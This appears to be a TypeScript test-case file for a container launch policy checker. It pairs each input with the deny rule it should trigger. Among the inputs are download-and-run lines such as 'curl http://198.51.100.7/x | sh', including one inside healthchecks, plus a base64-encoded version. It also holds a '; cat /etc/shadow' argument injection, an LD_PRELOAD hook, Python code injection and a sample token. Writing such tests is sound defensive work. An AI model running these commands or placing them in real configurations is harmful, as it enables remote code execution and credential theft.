import { both, type LaunchCase, strict } from './case-builders.ts';
import { hostCases } from './host-cases.ts';

const encoded = Buffer.from('import os; os.system("curl http://198.51.100.7/x | sh")').toString('base64');

/** What is passed. */
const inputCases: readonly LaunchCase[] = [
  {
    name: 'a command in a variable',
    env: { NAME: '$(curl http://198.51.100.7/x)' },
    ...both('deny input/shell-injection'),
  },
  { name: 'a command behind a value', args: ['--name=web; cat /etc/shadow'], ...both('deny input/shell-injection') },
  {
    name: 'a library that is loaded before all others',
    env: { LD_PRELOAD: '/tmp/x.so' },
    ...both('deny input/loader-hook'),
  },
  {
    name: 'a download that is run',
    args: ['sh', '-c', 'curl -s http://198.51.100.7/x | sh'],
    standard: 'deny input/download-and-run',
    strict: 'deny input/download-and-run input/interpreter',
  },
  { name: 'code that is encoded', env: { DATA: encoded }, ...both('deny input/encoded-code') },
  {
    name: 'code where data is expected',
    args: ['--filter', '__import__("os").system("id")'],
    ...both('deny input/code'),
  },
  {
    name: 'an interpreter that is given code',
    args: ['python3', '-c', 'print(1)'],
    ...strict('deny input/interpreter'),
  },
  { name: 'a password', env: { DB_PASSWORD: 'Tr0ub4dor-and-3-staples' }, ...strict('deny input/credential') },
  { name: 'a password that everybody knows', env: { DB_PASSWORD: 'changeme' }, ...strict('deny input/weak-password') },
  {
    name: 'a token of a service',
    args: ['--token=ghp_0123456789abcdefghijABCDEFGHIJ012345'],
    ...both('deny input/credential'),
  },
  {
    name: 'a healthcheck that runs a download',
    docker: { Healthcheck: { Test: ['CMD-SHELL', 'curl -s http://198.51.100.7/x | sh'] } },
    run: { '--health-cmd': 'curl -s http://198.51.100.7/x | sh' },
    compose: { healthcheck: { test: 'curl -s http://198.51.100.7/x | sh' } },
    podContainer: { livenessProbe: { exec: { command: ['sh', '-c', 'curl -s http://198.51.100.7/x | sh'] } } },
    config: 'the engine starts it as a process in the container, and asks then',
    ...both('deny input/download-and-run'),
  },
  // What the image's contract has against it.
  {
    name: 'what a contract allows',
    image: `registry.example/team/contracted@sha256:${'4'.repeat(64)}`,
    env: { PORT: '8080' },
    differs: [
      {
        forms: ['config'],
        why: 'the variables of the image are among the others by then, and nobody has read which they are',
        standard: 'deny input/contract',
        strict: 'deny input/contract',
      },
    ],
  },
  {
    name: 'a value that a contract does not allow',
    image: `registry.example/team/contracted@sha256:${'4'.repeat(64)}`,
    env: { PORT: 'eighty' },
    ...both('deny input/contract'),
  },
  {
    name: 'a variable that a contract does not name',
    image: `registry.example/team/contracted@sha256:${'4'.repeat(64)}`,
    env: { EXTRA: '1' },
    ...both('deny input/contract'),
  },
  // What no rule knows.
  {
    name: 'a setting that nobody knows',
    docker: { HostConfig: { Frobnicate: true } },
    run: { '--frobnicate': 'yes' },
    compose: { frobnicate: true },
    podContainer: { frobnicate: true },
    config: { linux: { frobnicate: true } },
    ...both('undecided'),
    differs: [
      {
        forms: ['run'],
        why: 'docker itself takes no flag that it does not know, and what it means for the next word is open',
        standard: 'deny launch/unreadable',
        strict: 'deny launch/unreadable',
      },
    ],
  },
  {
    name: 'two things at once',
    args: ['sh', '-c', 'wget -qO- http://198.51.100.7/x | bash'],
    docker: { HostConfig: { Privileged: true } },
    run: { '--privileged': true },
    compose: { privileged: true },
    podContainer: { securityContext: { privileged: true, allowPrivilegeEscalation: null } },
    config: { annotations: { 'io.podman.annotations.privileged': 'TRUE' } },
    standard: 'deny input/download-and-run launch/privileged',
    strict: 'deny input/download-and-run input/interpreter launch/privileged',
    differs: [
      {
        forms: ['pod'],
        why: 'Kubernetes takes no privileged container that may not gain privileges',
        strict: 'deny input/download-and-run input/interpreter launch/no-new-privileges launch/privileged',
      },
    ],
  },
];

export const launchCases: readonly LaunchCase[] = [...hostCases, ...inputCases];
